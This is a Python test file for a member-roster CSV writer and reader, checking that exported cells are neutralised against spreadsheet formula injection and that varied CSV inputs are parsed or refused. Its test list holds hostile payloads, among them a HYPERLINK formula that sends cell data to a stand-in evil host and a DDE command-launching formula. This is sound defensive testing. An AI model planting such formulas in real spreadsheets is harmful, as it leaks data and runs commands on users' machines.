"""Lists of members as CSV: what a spreadsheet makes of them, and what is made of whatever comes back."""

import csv
import io
from dataclasses import replace
from datetime import UTC, datetime

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from shared.errors import BadInput
from shared.model.member import Member, MemberState, StateChange
from shared.rosters import COLUMNS, Person, Roster, Wrong, inert, read_csv, restored, to_csv
from shared.text.inline import clean_text

NOW = datetime(2023, 10, 7, 8, tzinfo=UTC)
STARTS = "=+-@＝＋－＠﹦﹢﹣﹫\t\r\n"
FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "\u00a0=1", "\u200b=1", "\ufeff=1", "\0=1", "＝1+1", "－1",
    "'=1", "''=1", '"=1', '=HYPERLINK("https://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0",
]  # fmt: skip


def member(**changes) -> Member:
    plain = Member(
        group="g", id="a" * 20, name="Ada", address="ada@example.org", state=MemberState.ACTIVE,
        history=(StateChange(at=NOW, state=MemberState.ACTIVE, by="mika", why="approved by command"),),
    )  # fmt: skip
    return replace(plain, **changes)


def cells(text: str, mark: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=mark))


def people(text: str) -> list[tuple[str, str, str]]:
    return [(person.address, person.name, person.zone) for person in read_csv(text).people]


def refused(text: str) -> str:
    with pytest.raises(BadInput) as caught:
        read_csv(text)
    return str(caught.value)


# --- written
def test_a_member_is_a_line_with_state_wishes_and_answers():
    paused = member(
        state=MemberState.PAUSED, zone="Asia/Kolkata", muted=("7d", "news"), paused_until=NOW, answers=(("Why?", "I read"),)
    )  # fmt: skip
    bare = member(
        address="bo@example.com", name="", history=(), answers=(("Where from?", "a, b"), ("Why?", 'says "so"'))
    )
    assert to_csv([paused, bare]) == (
        "address,name,state,since,zone,not_wanted,paused_until,why,by,Why?,Where from?\r\n"
        "ada@example.org,Ada,paused,2023-10-07T08:00:00+00:00,Asia/Kolkata,7d news,2023-10-07T08:00:00+00:00,"
        "approved by command,mika,I read,\r\n"
        'bo@example.com,,active,,,,,,,"says ""so""","a, b"\r\n'
    )


def test_nobody_is_a_header_alone():
    assert to_csv([]) == ",".join(COLUMNS) + "\r\n"


def test_a_question_called_like_a_column_is_not_read_back_as_one():
    text = to_csv([member(answers=((" E-Mail ", "other@example.org"), ("name", "Nobody")))])
    assert cells(text)[0][-2:] == [" E-Mail  (answer)", "name (answer)"]
    assert people(text) == [("ada@example.org", "Ada", "")]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_is_taken_for_a_formula_wherever_the_text_comes_from(formula: str):
    evil = member(name=formula, zone=formula, answers=((formula, formula),), muted=(formula,))
    evil = replace(evil, history=(replace(evil.history[0], why=formula, by=formula),))
    text = to_csv([evil, member(address="=1@example.org")])
    written = [cell for row in cells(text) for cell in row]
    assert [cell for cell in written if cell.lstrip(" \0\u00a0\u200b\ufeff")[:1] in set(STARTS)] == []
    assert (inert(formula), restored(inert(formula))) == (f"'{formula}", formula)


@pytest.mark.parametrize("formula", ["=1", '"=1+1;', ' "=1', "'=1", "+1"])
def test_no_formula_hides_behind_a_semicolon_for_spreadsheets_that_split_there(formula: str):
    text = to_csv([member(name=f"x;{formula}", answers=(("a;=1", f"y;{formula};z"),))])
    split = [cell for line in text.splitlines() for cell in next(csv.reader([line], delimiter=";"))]
    assert [cell for cell in split if cell.strip()[:1] in set(STARTS)] == []


@given(st.text())
def test_any_text_is_restored_as_it_was(text: str):
    assert restored(inert(text)) == text


@given(st.text(alphabet=";'\"=-\t\r\n x\u200b", max_size=12))
def test_what_is_made_of_the_marks_themselves_is_inert_and_restored(text: str):
    made = inert(text)
    assert restored(made) == text
    assert [part for part in made.split(";") if part.lstrip(' "\t\r\n\u200b')[:1] in {"=", "-"}] == []


# --- read
@pytest.mark.parametrize("mark", [",", ";", "\t"])
@pytest.mark.parametrize("bom", ["", "\ufeff"])
@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_a_list_is_read_whatever_separates_it(mark: str, bom: str, end: str):
    lines = [
        ["Name", "Email", "Time zone"],
        ["Ada", "ADA@Example.org", "europe/paris"],
        ['"Sample, Bo; Dr"', "bo@example.com", ""],
    ]
    text = bom + "".join(mark.join(line) + end for line in lines)
    assert read_csv(text) == Roster(people=(
        Person(lines=(2,), address="ada@example.org", name="Ada", zone="Europe/Paris"),
        Person(lines=(3,), address="bo@example.com", name="Sample, Bo; Dr"),
    ))  # fmt: skip


@pytest.mark.parametrize(
    "heading", ["address", "Email", "E-mail", "EMAIL ADDRESS", " e-mail  address ", '"mail"', "\ufeffEmail"]
)
def test_the_column_of_addresses_has_one_of_several_names(heading: str):
    assert people(f"{heading}\nada@example.org\n") == [("ada@example.org", "", "")]


def test_columns_that_mean_nothing_are_named_and_not_read():
    roster = read_csv("email,Phone,,name,shoe  size\nada@example.org,1,2,Ada,39\n")
    assert (roster.people[0].name, roster.unread) == ("Ada", ("Phone", "shoe size"))


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("Email Address,First Name,Last Name,Rating\nada@example.org,Ada,Example,3\n", "Ada Example"),
        ("name,first_name,last_name,email,phone\nAda E,Ada,Example,ada@example.org,\n", "Ada E"),
        ("name,first_name,last_name,email,phone\n,Ada,,ada@example.org,\n", "Ada"),
        ("First Name,Last Name,E-mail 1 - Value\nAda,Example,ada@example.org\n", "Ada Example"),
        ("Timestamp,What is your e-mail?,Your name\n2025-01-01,ada@example.org,Ada\n", "Ada"),
        ("Vorname;Adresse für Post\nAda;ada@example.org\n", ""),
        ("E\u2011mail *,Name:\nada@example.org,Ada\n", "Ada"),
        ("sep=;\nemail;name\nada@example.org;Ada\n", "Ada"),
        ('"sep=,"\nemail,name\nada@example.org,Ada\n', "Ada"),
        ("ada@example.org\n", ""),
        ("Ada <ada@example.org>\n", "Ada"),
        ("Ada;ada@example.org\n", "Ada"),
    ],
    ids=["newsletter", "events", "first alone", "contacts", "form", "other language", "signs", "Excel", "quoted", "bare", "named", "beside"],
)  # fmt: skip
def test_lists_of_other_tools_are_read(text: str, found: str):
    assert people(text) == [("ada@example.org", found, "")]


def test_addresses_one_after_the_other_need_no_header():
    roster = read_csv("ada@example.org, Bo <bo@example.com>,\ncy@example.net\nnobody here\n")
    assert [(person.address, person.name, person.lines) for person in roster.people] == [
        ("ada@example.org", "", (1,)), ("bo@example.com", "Bo", (1,)), ("cy@example.net", "", (2,)),
    ]  # fmt: skip
    assert roster.wrong == (Wrong(line=3, address="nobody here", why="this is not an e-mail address: it has no @"),)


def test_nobody_is_taken_by_a_guess_between_two_columns_of_addresses():
    said = refused("Name,Private,Invited by\nAda,ada@example.org,bo@example.com\nCy,cy@example.net,\n")
    assert said == "“Private” and “Invited by” have e-mail addresses; call the column that counts “email”"


def test_of_two_columns_for_addresses_the_first_counts():
    assert people("mail,email\nada@example.org,bo@example.com\n") == [("ada@example.org", "", "")]


@pytest.mark.parametrize(
    ("text", "found"),
    [("", "none: the file is empty"), ("\n \n", "none: the file is empty"), ("Name,Phone\nAda,1\n", "Name, Phone")],
)
def test_a_list_without_addresses_is_refused_with_the_names_of_its_columns(text: str, found: str):
    said = refused(text)
    assert said.startswith("no column is called address, email or e-mail, and none has e-mail addresses")
    assert said.endswith(f"the columns are: {found}")


def test_an_address_that_stands_twice_is_one_person_with_all_lines_and_what_is_known_first():
    text = "email,name,zone\nada@example.org,,Mars\n\nADA@example.org,Ada,UTC\n<ada@example.org>,Countess,Asia/Tokyo\n"
    assert read_csv(text).people == (
        Person(lines=(2, 4, 5), address="ada@example.org", name="Ada", zone="UTC", odd_zone="Mars"),
    )


def test_lines_that_name_nobody_are_listed_with_the_reason_and_the_others_are_read():
    text = 'email,name\nada at example,Ada\n,Nobody\nbo@example.com,"Bo"\ncy@example.org,Sample, Cy\ndi@example.net\n'
    roster = read_csv(text)
    assert roster.wrong == (
        Wrong(line=2, address="ada at example", why="this is not an e-mail address: it has no @"),
        Wrong(line=3, address="", why="this is not an e-mail address: it has no @"),
        Wrong(
            line=5,
            address="cy@example.org",
            why="3 cells, but the header has 2: is a cell with a separator in it not in quotation marks?",
        ),
    )
    assert [person.address for person in roster.people] == ["bo@example.com", "di@example.net"]


def test_a_cell_over_several_lines_is_counted_as_they_are():
    roster = read_csv('email,name\nada@example.org,"Ada\nof\nLondon"\nbo@example.com,Bo\n')
    assert [(person.lines, person.name) for person in roster.people] == [((2,), "Ada of London"), ((5,), "Bo")]


def test_a_name_is_one_line_without_what_could_act_on_a_terminal():
    assert people("email,name\nada@example.org,\x1b[31mA\u202eda\x00\x07 B\n") == [("ada@example.org", "[31mAda B", "")]


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ('email,name\nada@example.org,"Ada\nbo@example.com,Bo\n', "line 2: a quotation mark is opened here and never closed"),
        ('"email,name\nada@example.org,Ada\n', "line 1: a quotation mark is opened here and never closed"),
        ('email,name\na@example.org,A\nada@example.org,"A"da\n', "line 3: something stands behind a closing quotation mark; in a cell in quotation marks write each mark that belongs to its text "
         'twice, as in "Ada ""Ace"" Example"'),
        ("email,name\nada@example.org," + "x" * 1_000_000 + "\n", "line 2: a cell of more than 131,072 characters; is a quotation mark opened here and never closed?"),
        ("email," + "x" * 1_000_000 + "\n", "line 1: a cell of more than 131,072 characters; is a quotation mark opened here and never closed?"),
    ],
    ids=["unclosed", "unclosed header", "after the quote", "a cell of 1 MB", "a header of 1 MB"],
)  # fmt: skip
def test_what_is_no_csv_is_refused_with_the_line(text: str, said: str):
    assert refused(text) == said


CSV_LIKE = st.text(alphabet=st.sampled_from("email,name;\t\r\n\"' =@.\ufeff\0é"), max_size=200)


@given(st.one_of(st.text(), CSV_LIKE, CSV_LIKE.map(lambda text: f"email,name\n{text}")))
@example("\ud800")
@example("email\n\ud800@example.org\n")
def test_any_text_is_a_list_or_refused(text: str):
    try:
        roster = read_csv(text)
    except BadInput:
        return
    assert len({person.address for person in roster.people}) == len(roster.people)


NAMES = st.text(max_size=60).map(lambda text: clean_text(text, 120))


@given(
    st.lists(
        st.tuples(NAMES, st.sampled_from(["", "UTC", "Asia/Kolkata"]), st.lists(st.tuples(NAMES, NAMES), max_size=4)), max_size=5
    )
)  # fmt: skip
def test_what_was_written_is_read_back_whatever_the_names_and_answers_are(rows):
    members = [
        member(address=f"p{n}@example.org", name=name, zone=zone, answers=tuple(answers))
        for n, (name, zone, answers) in enumerate(rows)
    ]
    roster = read_csv(to_csv(members))
    assert [(p.address, p.name, p.zone) for p in roster.people] == [(m.address, m.name, m.zone) for m in members]
    assert (roster.wrong, [p.odd_zone for p in roster.people if p.odd_zone]) == ((), [])


@given(st.sampled_from("=+-'#!~{"), st.sampled_from(["", "'", "a"]))
def test_an_address_that_begins_like_a_formula_is_read_back(first: str, second: str):
    address = f"{first}{second}x@example.org"
    assert people(to_csv([member(address=address)])) == [(address, "Ada", "")]
